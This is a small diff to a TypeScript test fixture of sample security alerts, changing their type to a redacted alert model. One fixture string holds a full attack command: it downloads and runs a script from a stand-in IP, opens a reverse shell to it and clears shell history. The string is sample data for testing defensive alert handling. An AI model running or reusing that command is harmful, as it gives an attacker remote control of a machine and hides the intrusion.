@@ -1,4 +1,5 @@
 import type { Alert } from '../../../shared/model/alert'
+import type { RedactedAlert } from '../../../shared/model/redacted-alert'
 import * as attack from '../../../shared/model/attack'
 import { ACCOUNT, alertOf, finding, SUBSCRIPTION } from './alert-fixture'
 
@@ -47,7 +48,7 @@ const SHELL =
   'set -e\ncurl -fsS http://203.0.113.66/a.sh -o /tmp/a.sh\nbash /tmp/a.sh\n\tbash -i >& /dev/tcp/203.0.113.66/4444 0>&1\nhistory -c'
 
 /** One alert of every sort that looks different, by a name that tells what is special about it. */
-export const SAMPLES: Readonly<Record<string, Alert>> = {
+export const SAMPLES: Readonly<Record<string, RedactedAlert>> = {
   'reverse shell on many machines': alertOf({
     id: id(1),
     severity: 'critical',
